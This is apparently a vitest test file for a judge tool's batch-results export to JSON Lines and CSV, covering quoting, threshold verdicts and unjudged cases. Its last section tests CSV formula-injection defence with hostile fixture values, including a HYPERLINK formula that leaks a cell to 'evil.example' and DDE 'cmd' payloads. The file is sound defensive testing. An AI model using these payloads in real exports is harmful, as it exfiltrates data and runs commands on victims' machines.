import { describe, expect, it } from 'vitest';
import type { BatchRun } from '../../../../src-shared/judge/batch-run';
import type { JudgeAnswer } from '../../../../src-shared/judge/judge-answers';
import { openMemoryDatabase } from '../../db/open-database';
import { createRepositories } from '../../db/repositories';
import { StorageNotices } from '../../storage/storage-notices';
import { parseCsv } from '../cases/csv';
import { sampleQuestions } from '../sample-questions.test-helper';
import { casesStamp } from '../../db/cases-stamp';
import { LabelledRunCache } from './labelled-run';
import { BatchResultsExport } from './results-export-service';
import type { LabelledRunRow } from './labelled-run';
import { flatRow, resultColumns, resultRows, type ResultRow, writeResults } from './results-export';
import { setCasesKey } from './set-case-source';

/**
 * A set tuned after its run (revision 2: cats read at 0.7), three saved cases, a paused run over
 * them that has judged two (the third is still waiting).
 */
function fixture(saveAs: string | null) {
  const db = openMemoryDatabase();
  const repos = createRepositories({ db, notices: new StorageNotices() });
  const tuning = { thresholds: { cats: 0.7 }, minimums: {} };
  repos.sets.put({
    id: 'set-1',
    name: 'Cats & tone',
    createdAt: 1,
    updatedAt: 2,
    revisions: [
      { revision: 1, savedAt: 1, questions: sampleQuestions },
      { revision: 2, savedAt: 2, questions: sampleQuestions, tuning },
    ],
  });
  let n = 0;
  const cases = repos.cases.append(
    'set-1',
    [
      // Commas, quotes and a line break: everything RFC 4180 must quote.
      { state: 'He said "calm, please"\nthen left', expected: { tone: 0, quality: 2, cats: true }, note: '' },
      { state: ['a list', 'of texts'], expected: { cats: false }, note: '' },
      { state: { reply: 'hi' }, expected: {}, note: '' },
    ],
    () => `case-${n++}`,
    3,
  );
  const run: BatchRun = {
    id: 'run-1',
    setId: 'set-1',
    setRevision: 1,
    model: 'judge-1.13.0',
    state: 'paused',
    createdAt: Date.UTC(2025, 4, 6),
    updatedAt: 5,
    concurrency: 2,
    totals: { cases: 3 },
    tokens: 0,
    yuan: 0,
    versions: {},
    rateLimited: 0,
    source: { kind: 'named', key: setCasesKey('set-1') },
  };
  repos.batches.putRun(run);
  const answers = (cats: number): JudgeAnswer[] => [
    {
      name: 'tone',
      kind: 'choice',
      // The sent choice disagrees with the probabilities: the file reads the most probable
      // option, as the results grid and the metrics do.
      choice: 'angry',
      options: [
        { name: 'calm', probability: 0.8 },
        { name: 'angry', probability: 0.2 },
      ],
    },
    {
      name: 'quality',
      kind: 'score',
      score: 1.2,
      base: 0,
      position: 1.2,
      levels: [0.1, 0.6, 0.3].map((probability, index) => ({ index, label: String(index), probability })),
    },
    { name: 'cats', kind: 'noul', noul: cats },
  ];
  const result = (caseId: string, cats: number) => ({
    runId: 'run-1',
    caseId,
    status: 'done' as const,
    updatedAt: 4,
    answers: answers(cats) as unknown as Record<string, unknown>[],
    modelAnswered: 'judge-1.13.0',
    inputTokens: 120,
    latencyMs: 35,
  });
  // 0.6: true at 0.5, false at the saved 0.7; 0.75: true at both.
  repos.batches.putResults(run.id, [result(cases[0].id, 0.6), result(cases[1].id, 0.75)], run);
  const saved: { text: string; name: string }[] = [];
  const exporter = new BatchResultsExport({
    labelled: new LabelledRunCache({ ...repos, labelsStamp: casesStamp(db) }),
    desktop: {
      saveTextAs: async (text, name) => {
        saved.push({ text, name });
        return saveAs && `${saveAs}/${name}`;
      },
      saveFileAs: async () => null,
      notify: () => undefined,
    },
  });
  return { exporter, saved };
}

describe('a batch run’s results export', () => {
  it('writes JSON Lines, one object per case, with noul verdicts at the saved threshold', async () => {
    const { exporter, saved } = fixture('/exports');
    expect(await exporter.export('run-1', 'jsonl')).toBe('/exports/Cats-tone-2025-05-06.results.jsonl');
    const lines = saved[0].text.trimEnd().split('\n');
    expect(lines).toHaveLength(3);
    const rows = lines.map((l) => JSON.parse(l) as ResultRow);
    expect(rows[0]).toEqual({
      case: 1,
      state: 'He said "calm, please"\nthen left',
      caseState: 'text',
      expected: { tone: 'calm', quality: 3, cats: true },
      status: 'done',
      model: 'judge-1.13.0',
      answers: {
        tone: { option: 'calm', probability: 0.8 },
        quality: { level: 2, probabilities: [0.1, 0.6, 0.3] },
        cats: { value: 0.6, threshold: 0.7, verdict: false },
      },
      inputTokens: 120,
      latencyMs: 35,
    });
    expect(rows[1].answers.cats).toEqual({ value: 0.75, threshold: 0.7, verdict: true });
    expect(rows[1].caseState).toBe('list');
    // The third case was never judged: it is there, saying so, with no answers.
    expect(rows[2]).toMatchObject({ case: 3, status: 'waiting', caseState: 'json', expected: {} });
    expect(rows[2].answers.cats).toEqual({ threshold: 0.7 });
  });

  it('writes CSV that the project’s CSV reader parses back to the same values', async () => {
    const { exporter, saved } = fixture('/exports');
    await exporter.export('run-1', 'csv');
    const { text } = saved[0];
    expect(text.endsWith('\r\n')).toBe(true);
    const records = parseCsv(text);
    expect(records.every((r) => r.problem === undefined)).toBe(true);
    const [header, ...body] = records.map((r) => r.fields);
    expect(header).toEqual(resultColumns(sampleQuestions));
    expect(header).toEqual(expect.arrayContaining(['quality.p3', 'cats.threshold', 'cats.verdict']));
    expect(body).toHaveLength(3);
    const jsonl = fixture('/exports');
    await jsonl.exporter.export('run-1', 'jsonl');
    const rows = jsonl.saved[0].text
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as ResultRow);
    body.forEach((fields, i) => {
      const cells = flatRow(sampleQuestions, rows[i]);
      expect(Object.fromEntries(header.map((c, j) => [c, fields[j]]))).toEqual(
        Object.fromEntries(header.map((c) => [c, cells[c] === undefined ? '' : String(cells[c])])),
      );
    });
    const cell = (row: number, column: string) => body[row][header.indexOf(column)];
    expect(cell(0, 'state')).toBe('He said "calm, please"\nthen left');
    expect(cell(0, 'cats.verdict')).toBe('false');
    expect(cell(1, 'cats.verdict')).toBe('true');
    expect(cell(2, 'status')).toBe('waiting');
  });

  it('returns null when the save dialog is cancelled', async () => {
    const { exporter, saved } = fixture(null);
    expect(await exporter.export('run-1', 'csv')).toBeNull();
    expect(saved).toHaveLength(1);
  });

  it('says plainly when the run no longer exists', async () => {
    const { exporter } = fixture('/exports');
    await expect(exporter.export('run-9', 'csv')).rejects.toThrow(/This batch run no longer exists/);
  });

  it('gives an answer that does not fit its question no reading, its numbers as received and its problems', () => {
    const flagged: JudgeAnswer[] = [
      {
        name: 'tone',
        kind: 'choice',
        choice: 'calm',
        options: [{ name: 'calm', probability: 1 }],
        confidence: 87,
      },
      { name: 'cats', kind: 'noul', noul: 1.7 },
    ];
    const row = {
      caseId: 'c',
      position: 0,
      state: { mode: 'text', text: 'hi' },
      note: '',
      result: { runId: 'r', caseId: 'c', status: 'done', updatedAt: 1, answers: flagged },
      labelled: { id: 'c', answers: flagged, labels: {} },
    } as unknown as LabelledRunRow;
    const [out] = resultRows(sampleQuestions, [row], undefined);
    expect(out.answers.tone).toEqual({
      option: undefined,
      probability: undefined,
      problems: ['confidence 87 is outside 0–1'],
    });
    expect(out.answers.cats).toEqual({
      value: 1.7,
      threshold: 0.5,
      verdict: undefined,
      problems: ['noul 1.7 is outside 0–1'],
    });
    const cells = flatRow(sampleQuestions, out);
    expect(cells['cats.problems']).toBe('noul 1.7 is outside 0–1');
    expect(cells['cats.verdict']).toBeUndefined();
    expect(resultColumns(sampleQuestions)).toEqual(
      expect.arrayContaining(['tone.problems', 'cats.problems']),
    );
  });
});

describe('formula cells in a results export (CSV injection)', () => {
  const hostile: ResultRow = {
    case: 1,
    state: '=HYPERLINK("http://evil.example/?leak="&A1,"details")',
    caseState: 'text',
    expected: { tone: "@SUM(1+9)*cmd|' /C calc'!A0" },
    status: 'failed',
    model: "+cmd|' /C calc'!A0",
    answers: {
      tone: { option: '-2+3', probability: 0.5 },
      quality: { level: undefined, probabilities: [undefined, undefined, undefined] },
      // A number as the gateway sent it, out of range: flagged, and still a number in the file.
      cats: { value: -0.5, threshold: 0.7, verdict: undefined, problems: ['\t=1+1'] },
    },
    inputTokens: undefined,
    latencyMs: undefined,
    error: '\r=1+1',
  };
  const cellsOf = (text: string) => {
    const [header, row] = parseCsv(text).map((r) => r.fields);
    return Object.fromEntries(header.map((c, i) => [c, row[i]]));
  };

  it('writes every formula-looking cell with a leading apostrophe, numbers as numbers', () => {
    const cells = cellsOf(writeResults(sampleQuestions, [hostile], 'csv'));
    expect(cells).toMatchObject({
      state: `'${hostile.state}`,
      'expected.tone': `'${String(hostile.expected.tone)}`,
      model: `'${hostile.model}`,
      'tone.option': "'-2+3",
      'cats.problems': "'\t=1+1",
      error: "'\r=1+1",
      'cats.value': '-0.5',
      'cats.threshold': '0.7',
    });
    for (const [column, value] of Object.entries(cells))
      expect(/^[=+@\t\r]|^-(?!0\.5$)/.test(value), `${column}: ${value}`).toBe(false);
  });

  it('writes them as they are in raw CSV, and always in JSON Lines', () => {
    const raw = cellsOf(writeResults(sampleQuestions, [hostile], 'csv', { raw: true }));
    expect(raw).toMatchObject({
      state: hostile.state,
      model: hostile.model,
      error: '\r=1+1',
      'tone.option': '-2+3',
    });
    const jsonl = JSON.parse(writeResults(sampleQuestions, [hostile], 'jsonl')) as ResultRow;
    expect(jsonl.state).toBe(hostile.state);
    expect(jsonl.model).toBe(hostile.model);
  });
});
